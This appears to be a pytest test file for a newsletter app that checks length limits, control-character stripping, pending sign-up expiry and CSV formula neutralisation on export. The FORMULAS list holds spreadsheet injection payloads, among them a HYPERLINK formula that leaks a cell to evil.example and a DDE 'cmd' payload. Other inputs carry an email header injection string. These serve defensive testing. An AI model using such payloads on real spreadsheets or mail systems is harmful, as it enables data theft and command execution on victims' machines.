"""What strangers put into the list, each test written as the attack: a 5 MB or multi-line name, sign-ups
left pending forever, spreadsheet formulas in an export; and property tests of the CSV round trip."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from helpers.asgi import InProcess, log_in
from helpers.cli import one_line_error, run
from helpers.newsletters import ADMIN_TOKEN
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from newsletter import subscribers
from newsletter.app import Newsletter
from newsletter.daemon import Daemon
from newsletter.error import NewsletterError
from newsletter.sink import Sink
from newsletter.store import Store
from newsletter.subscribers import NAME_LIMIT, STATUSES, csvfile, optin
from newsletter.subscribers.choices import Choices

HUGE = "Dear reader, your account is locked: visit evil.example " * 90_000  # about 5 MB
START = datetime(2026, 11, 26, 9, 0, tzinfo=UTC)
CHOICES = Choices(("Russia", "China", "Energy", "In brief"))  # as the test newsletters' config offers
BUDGET = settings(max_examples=200, deadline=timedelta(seconds=2), database=None,
                  suppress_health_check=[HealthCheck.too_slow])


class Clock:
    """A clock the test moves by hand."""

    def __init__(self) -> None:
        self.now = START

    def __call__(self) -> datetime:
        return self.now


def longest_name(app: Newsletter) -> int:
    """Return the length of the longest name or event detail the store holds."""
    s, e = app.store.t.subscribers, app.store.t.subscriber_events
    with app.store.begin() as conn:
        return max(conn.execute(sa.select(sa.func.max(sa.func.length(s.c.name)))).scalar() or 0,
                   conn.execute(sa.select(sa.func.max(sa.func.length(e.c.detail)))).scalar() or 0)


# -- the name: one line, at most 100 characters, on every path ------------------------------------

def test_a_5_mb_name_is_refused_by_the_form_and_the_api_and_stored_nowhere(client: InProcess, web_app: Newsletter,
                                                                            sink: Sink) -> None:
    assert len(HUGE) > 5_000_000
    form = client.post("/subscribe", data={"email": "victim@example.org", "name": HUGE})
    assert form.status_code == 400 and "Field exceeded maximum size of 1024KB" in form.text  # refused unread
    form = client.post("/subscribe", data={"email": "victim@example.org", "name": HUGE[:500_000]})
    assert form.status_code == 400 and "the name is 500,000 characters long; the most is 100" in form.text
    assert len(form.content) < 20_000  # the form comes back with what a field holds, not the 500 KB
    api = client.post("/api/subscribe", json={"email": "victim@example.org", "name": HUGE})
    assert api.status_code == 422 and api.json()["detail"] == "the name is 5,039,999 characters long; the most is 100"
    headers = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
    added = client.post("/api/subscribers", json={"email": "victim@example.org", "name": HUGE}, headers=headers)
    assert added.status_code == 422
    ann = subscribers.get(web_app.store, "ann@example.org")
    changed = client.request("PATCH", f"/api/subscribers/{ann.id}", json={"name": HUGE}, headers=headers)
    assert changed.status_code == 422
    long = HUGE[:500_000]  # a form field over 1 MB is refused before anything reads it (above)
    preferences = client.post(f"/preferences/{web_app.signer().sign('unsubscribe', ann.id)}", data={"name": long})
    assert preferences.status_code == 400 and "Nothing was changed" in preferences.text
    csrf = log_in(client)
    desk = client.post("/desk/subscribers", data={"email": "victim@example.org", "name": long, "csrf": csrf},
                       follow_redirects=False)
    assert desk.status_code == 303 and "the most is 100" in client.get(desk.headers["location"]).text

    assert sink.messages == [] and subscribers.find(web_app.store, "victim@example.org") is None
    assert subscribers.get(web_app.store, "ann@example.org").name == "Ann Lee"
    assert longest_name(web_app) <= NAME_LIMIT


def test_a_name_is_one_line_without_control_characters(web_app: Newsletter, sink: Sink) -> None:
    cases = {
        "Ann\r\nBcc: attacker@evil.example": "Ann Bcc: attacker@evil.example",
        "Bek\x00\x1b[31m\tzat\x85": "Bek [31m zat",
        "\u202egnp.exe\u2066 Cy\u2069": "gnp.exe Cy",  # no right-to-left override to disguise a name
        "Zoë\u2028Ng": "Zoë Ng",
        "  Ф " * 25: " ".join(["Ф"] * 25),
        "x" * NAME_LIMIT: "x" * NAME_LIMIT,
    }
    for n, (typed, stored) in enumerate(cases.items()):
        assert optin.request(web_app, f"r{n}@example.org", name=typed).sent
        assert subscribers.get(web_app.store, f"r{n}@example.org").name == stored
    too_long = "x" * (NAME_LIMIT + 1)
    for attempt in (lambda: subscribers.add(web_app.store, "long@example.org", name=too_long),
                    lambda: optin.request(web_app, "long@example.org", name=too_long)):
        try:
            attempt()
        except NewsletterError as e:
            assert str(e) == "the name is 101 characters long; the most is 100"
        else:
            raise AssertionError("a 101-character name was taken")
    assert subscribers.find(web_app.store, "long@example.org") is None


def test_csv_and_the_command_line_refuse_a_long_name_naming_the_row(app: Newsletter, newsletter_dir: Path) -> None:
    text = f"email,name\nok@example.org,Ok\nlong@example.org,{'x' * 101}\nhuge@example.org,\"{HUGE[:100_000]}\"\n"
    report = csvfile.import_csv(app.store, io.StringIO(text), choices=CHOICES)
    assert report.added == 1 and report.rejected == [
        (3, "the name is 101 characters long; the most is 100"),
        (4, "the name is 100,000 characters long; the most is 100"),
    ]
    assert longest_name(app) <= NAME_LIMIT
    result = run("subscribers", "add", "cli@example.org", "--name", "y" * 101, cwd=newsletter_dir)
    assert one_line_error(result) == "error: the name is 101 characters long; the most is 100"
    assert subscribers.find(app.store, "cli@example.org") is None


# -- pending sign-ups expire ----------------------------------------------------------------------

def test_pending_sign_ups_are_purged_after_pending_days(web_app: Newsletter, sink: Sink) -> None:
    clock = Clock()
    app = Newsletter(web_app.config.replace(web={"pending_days": 7}), store=web_app.store, clock=clock)
    optin.request(app, "stranger@example.org", name="Someone Typed This")
    optin.request(app, "keen@example.org")
    optin.confirm(app, re.findall(r"/confirm/([\w.-]+)", sink.messages[-1].parse().get_body(("plain",))
                                  .get_content())[0])
    stranger = subscribers.get(app.store, "stranger@example.org")
    assert stranger.status == "pending" and subscribers.get(app.store, "keen@example.org").status == "active"

    clock.now = START + timedelta(days=6, hours=23)
    optin.request(app, "second@example.org")  # a sign-up purges what is stale: nothing yet
    assert subscribers.find(app.store, "stranger@example.org") is not None
    clock.now = START + timedelta(days=7, minutes=1)
    optin.request(app, "third@example.org")
    assert subscribers.find(app.store, "stranger@example.org") is None
    with app.store.begin() as conn:
        e = app.store.t.subscriber_events
        assert conn.execute(sa.select(sa.func.count()).where(e.c.subscriber_id == stranger.id)).scalar() == 0
    # Readers who confirmed, and pending ones an editor added (the fixture's), are never purged.
    assert subscribers.get(app.store, "keen@example.org").status == "active"
    assert subscribers.get(app.store, "pending@example.org").status == "pending"

    # A new sign-up of the same address starts the time again; so does `newsletter run`'s tick.
    clock.now = START + timedelta(days=9)
    optin.request(app, "second@example.org")  # sent again: second's time starts over
    clock.now = START + timedelta(days=14, hours=1)
    Daemon(app, clock=clock).tick()
    assert subscribers.find(app.store, "third@example.org") is None
    assert subscribers.find(app.store, "second@example.org") is not None
    clock.now = START + timedelta(days=16, hours=1)
    Daemon(app, clock=clock).tick()
    assert subscribers.find(app.store, "second@example.org") is None


# -- CSV: no formulas out, and our own export imports unchanged -----------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "'=already quoted", "''-two quotes"]


def exported_cells(store: Store) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csvfile.export_text(store))))[1:]


def listing(store: Store) -> list[tuple[str, str, tuple[str, ...], str]]:
    return sorted((s.email, s.name, s.sections, s.status) for s in subscribers.iterate(store))


def test_the_export_neutralises_formulas_and_imports_back_unchanged(tmp_path: Path) -> None:
    store = Store.memory()
    for n, formula in enumerate(FORMULAS):
        subscribers.add(store, f"r{n}@example.org", name=formula, sections=["-Energy", "=Russia"])
    subscribers.add(store, "=cmd@example.org", name="Plain Name", status="active")
    for row in exported_cells(store):
        for cell in row:
            assert not cell.startswith(csvfile.FORMULA), row  # a spreadsheet shows every cell as text
    names = {row[1] for row in exported_cells(store)}
    assert "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")" in names and "''=already quoted" in names

    again = Store.memory()
    offered = Choices(("-Energy", "=Russia", "China"))  # section names that look like formulas, too
    report = csvfile.import_csv(again, io.StringIO(csvfile.export_text(store)), choices=offered)
    assert (report.added, report.rejected) == (len(FORMULAS) + 1, [])
    assert listing(again) == listing(store)
    typed = csvfile.import_csv(again, io.StringIO("email,name\nr0@example.org,'Tis me\n"), choices=offered)
    # not our quote: kept
    assert typed.updated == 1 and subscribers.get(again, "r0@example.org").name == "'Tis me"


section_names = st.text(st.characters(blacklist_characters=",;", blacklist_categories=("Cs",)), min_size=1,
                        max_size=12).map(str.strip).filter(bool)
prefixes = st.sampled_from(["", "=", "+", "-", "'", "'=", "''+", "'-'"])


@st.composite
def readers(draw: Any) -> list[tuple[str, str, tuple[str, ...], str]]:
    """Readers with arbitrary names (as the list keeps them), sections and statuses, addresses that may look like formulas."""
    count = draw(st.integers(1, 5))
    found = []
    for n in range(count):
        try:
            name = subscribers.clean_name(draw(prefixes) + draw(st.text(max_size=120)))
        except NewsletterError:
            name = ""
        sections = tuple({s.casefold(): s for s in draw(st.lists(section_names, max_size=3))}.values())
        found.append((f"{draw(prefixes)}r{n}@example.org", name, sections, draw(st.sampled_from(STATUSES))))
    return found


@pytest.fixture(scope="module")
def stores() -> Iterator[tuple[Store, Store]]:
    """Two stores the examples of a property test share, emptied by each (a new one per example is slower)."""
    pair = Store.memory(), Store.memory()
    yield pair
    for store in pair:
        store.close()


def emptied(*pair: Store) -> tuple[Store, ...]:
    for store in pair:
        with store.begin() as conn:
            conn.execute(store.t.subscriber_events.delete())
            conn.execute(store.t.subscribers.delete())
    return pair


@BUDGET
@given(found=readers())
def test_export_then_import_round_trips_any_names_and_sections(
        stores: tuple[Store, Store], found: list[tuple[str, str, tuple[str, ...], str]]) -> None:
    source, target = emptied(*stores)
    for email, name, sections, status in found:
        subscribers.add(source, email, name=name, sections=sections, status=status)
    # The config offers every section a reader chose (one spelling each, any case) and one nobody did.
    named = {s.casefold(): s for _, _, sections, _ in found for s in sections}
    offered = Choices((*named.values(), *(["Unchosen"] if "unchosen" not in named else ["Unchosen 2"])))
    report = csvfile.import_csv(target, io.StringIO(csvfile.export_text(source)), choices=offered)
    assert report.rejected == [] and listing(target) == listing(source)


cells = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)


@BUDGET
@given(rows=st.one_of(
    st.tuples(st.one_of(st.just(["email", "name", "sections", "status"]), st.lists(cells, max_size=5)),
              st.lists(st.lists(cells, max_size=6), max_size=20)),
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=400),
))
def test_importing_arbitrary_rows_raises_only_our_errors(stores: tuple[Store, Store], rows: Any) -> None:
    if isinstance(rows, str):
        text = rows
    else:
        buffer = io.StringIO()
        writer = csv.writer(buffer)
        writer.writerow(rows[0])
        writer.writerows(rows[1])
        text = buffer.getvalue()
    store = stores[0]  # rows pile up across examples: later ones update earlier ones
    try:
        report = csvfile.import_csv(store, io.StringIO(text), choices=CHOICES)
    except NewsletterError:
        return
    assert all(line >= 1 and reason for line, reason in report.rejected)  # line 1: a file without header
    assert all(len(s.name) <= NAME_LIMIT and s.name == subscribers.clean_name(s.name)
               for s in subscribers.iterate(store))


def test_an_oversized_csv_field_is_one_clear_error() -> None:
    text = f"email,name\nok@example.org,\"{'x' * 200_000}\"\n"
    try:
        csvfile.import_csv(Store.memory(), io.StringIO(text), choices=CHOICES)
    except NewsletterError as e:
        assert str(e) == "line 2: field larger than field limit (131072); nothing was imported"
    else:
        raise AssertionError("an oversized field was imported")


def test_the_web_export_is_neutralised_too(client: InProcess, web_app: Newsletter) -> None:
    subscribers.add(web_app.store, "formula@example.org", name=FORMULAS[0], status="active")
    csrf = log_in(client)
    assert csrf
    for path, headers in [("/desk/subscribers/export.csv", {}),
                          ("/api/subscribers/export.csv", {"Authorization": f"Bearer {ADMIN_TOKEN}"})]:
        text = client.get(path, headers=headers).text
        rows = [row for row in csv.reader(io.StringIO(text)) if row and row[0] == "formula@example.org"]
        assert rows == [["formula@example.org", "'" + FORMULAS[0], "", "active", "", ""]]
